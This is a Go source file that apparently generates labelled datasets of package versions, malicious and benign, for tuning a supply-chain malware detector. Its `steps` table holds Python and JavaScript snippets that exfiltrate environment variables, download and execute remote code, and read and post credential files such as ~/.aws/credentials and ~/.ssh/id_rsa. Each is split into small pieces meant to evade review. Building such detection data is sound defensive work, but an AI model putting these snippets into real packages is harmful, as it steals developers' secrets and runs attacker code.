package generate

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// scenarios describes rows of versions of one package: a payload that is added,
// one that is still there in the next version, one that comes in five small steps,
// and honest rows.
func scenarios(seed uint64) []Scenario {
	var out []Scenario
	seen := map[string]bool{}
	for _, s := range shapes() {
		key := s.lang.ecosystem() + " " + s.family
		if s.weak || seen[key] || s.places != nil && s.places[0] == "shell-hook" {
			continue
		}
		seen[key] = true
		for _, kind := range []string{"added", "repeated"} {
			out = append(out, row(seed, s, kind))
		}
		if s.good.code != "" {
			out = append(out, row(seed, s, "honest"))
		}
	}
	for v := range 12 {
		for _, lang := range []language{python, javascript} {
			out = append(out, smallSteps(seed, lang, v))
		}
	}
	return out
}

// row is a package whose second version adds a shape, and with "repeated" a third
// that keeps it.
func row(seed uint64, s shape, kind string) Scenario {
	name := id("row", kind, s.lang.ecosystem(), s.family, s.name)
	d := disguises[0]
	if kind == "repeated" {
		d = disguises[1]
	}
	sc := Scenario{ID: name, Kind: kind, Ecosystem: s.lang.ecosystem(), Family: s.family, Split: Tune, Label: Malicious, Payload: 1, Opened: s.opened || opened("row", kind, s.lang, s.family)}
	add := s.bad
	if kind == "honest" {
		sc.Label, sc.Payload, add = Benign, 0, s.good
	}
	place := placeFor(s, d, source(seed, name, "place"))
	if kind == "honest" {
		place = honestPlace(place)
	}
	version := func(n int, code snippet, place string) func() built {
		return func() built { return release(source(seed, name), s.lang, n)(code, d, place) }
	}
	var before string
	switch {
	case s.lang == javascript:
		before = "main"
	case place == "setup" || place == "cmdclass" || place == "backend":
		before = "setup"
	default:
		before = "init"
	}
	sc.make = append(sc.make, version(0, snippet{}, before), version(1, add, place))
	if kind == "repeated" {
		sc.make = append(sc.make, version(2, add, place))
	}
	return sc
}

// release is a constructor of the n-th version of a package; all versions draw the
// same surroundings.
func release(rng *rand.Rand, lang language, n int) func(snippet, disguise, string) built {
	name := packageName(rng)
	version := fmt.Sprintf("1.%d.0", n)
	return func(code snippet, d disguise, place string) built {
		if lang == python {
			p := pythonPackage{rng: rng, name: name, version: version}
			return p.build(code, d, place, false)
		}
		p := scriptPackage{rng: rng, name: name, version: version}
		return p.build(code, d, place, false)
	}
}

// stepwise is a payload cut into pieces, each of which alone says little; the last
// sets it going.
type stepwise struct {
	family string
	pieces []string
}

var steps = [][]stepwise{
	python: {
		{"env-exfil", []string{
			"ENDPOINT = \"$URL\"\n",
			"def gather():\n    import os\n\n    return dict(os.environ)\n",
			"def packed(value):\n    import base64\n    import json\n\n    return base64.b64encode(json.dumps(value).encode())\n",
			"def deliver(data):\n    import urllib.request\n\n    urllib.request.urlopen(urllib.request.Request(ENDPOINT, data=data), timeout=3)\n",
			"deliver(packed(gather()))\n",
		}},
		{"download-exec", []string{
			"TOOL = \"$URL\"\n",
			"def where():\n    import os\n    import tempfile\n\n    return os.path.join(tempfile.gettempdir(), \"tool\")\n",
			"def fetched():\n    import urllib.request\n\n    return urllib.request.urlretrieve(TOOL, where())[0]\n",
			"def started(name):\n    import os\n    import subprocess\n\n    os.chmod(name, 0o755)\n    return subprocess.Popen([name])\n",
			"started(fetched())\n",
		}},
		{"credential-files", []string{
			"PLACES = [\"~/.npmrc\", \"~/.pypirc\", \"~/.aws/credentials\"]\n",
			"def text_of(place):\n    import os\n\n    with open(os.path.expanduser(place)) as handle:\n        return handle.read()\n",
			"def all_texts():\n    return [text_of(place) for place in PLACES]\n",
			"def post(url, value):\n    import requests\n\n    return requests.post(url, json=value, timeout=3)\n",
			"post(\"$URL\", all_texts())\n",
		}},
	},
	javascript: {
		{"env-exfil", []string{
			"const ENDPOINT = '$URL';\n",
			"function gather() {\n  return { ...process.env };\n}\n",
			"function packed(value) {\n  return Buffer.from(JSON.stringify(value)).toString('base64');\n}\n",
			"function deliver(body) {\n  return fetch(ENDPOINT, { method: 'POST', body });\n}\n",
			"deliver(packed(gather()));\n",
		}},
		{"download-exec", []string{
			"const TOOL = '$URL';\n",
			"async function fetched() {\n  return (await fetch(TOOL)).text();\n}\n",
			"function prepared(text) {\n  return String(text).trim();\n}\n",
			"function started(text) {\n  return new Function(text)();\n}\n",
			"fetched().then(prepared).then(started);\n",
		}},
		{"credential-files", []string{
			"const PLACES = ['.npmrc', '.aws/credentials', '.ssh/id_rsa'];\n",
			"async function textOf(place) {\n  const { readFile } = await import('node:fs/promises');\n  const { homedir } = await import('node:os');\n  return readFile(homedir() + '/' + place, 'utf8');\n}\n",
			"function allTexts() {\n  return Promise.all(PLACES.map(textOf));\n}\n",
			"function send(url, value) {\n  return fetch(url, { method: 'POST', body: JSON.stringify(value) });\n}\n",
			"allTexts().then((texts) => send('$URL', texts));\n",
		}},
	},
}

// smallSteps is a payload that arrives in five versions, each a little more.
func smallSteps(seed uint64, lang language, variant int) Scenario {
	name := id("row-small-steps", lang.ecosystem(), variant)
	way := steps[lang][variant%len(steps[lang])]
	sc := Scenario{ID: name, Kind: "small-steps", Ecosystem: lang.ecosystem(), Family: way.family, Split: Tune, Label: Malicious, Payload: len(way.pieces), Opened: opened("small", lang, variant)}
	for n := range len(way.pieces) + 1 {
		sc.make = append(sc.make, func() built {
			rng := source(seed, name)
			v := values(source(seed, name, "values"), "inert")
			code := v.Replace(strings.Join(way.pieces[:n], "\n\n"))
			place := []string{"init", "main"}[lang]
			if variant%2 == 1 {
				place = []string{"module", "nested"}[lang]
			}
			return release(rng, lang, n)(snippet{code: code}, disguises[0], place)
		})
	}
	return sc
}

// shapes are all of Python's and JavaScript's in the tune half.
func shapes() []shape {
	var out []shape
	out = append(out, pythonShapes...)
	out = append(out, scriptShapes...)
	return append(out, firstShapes...)
}
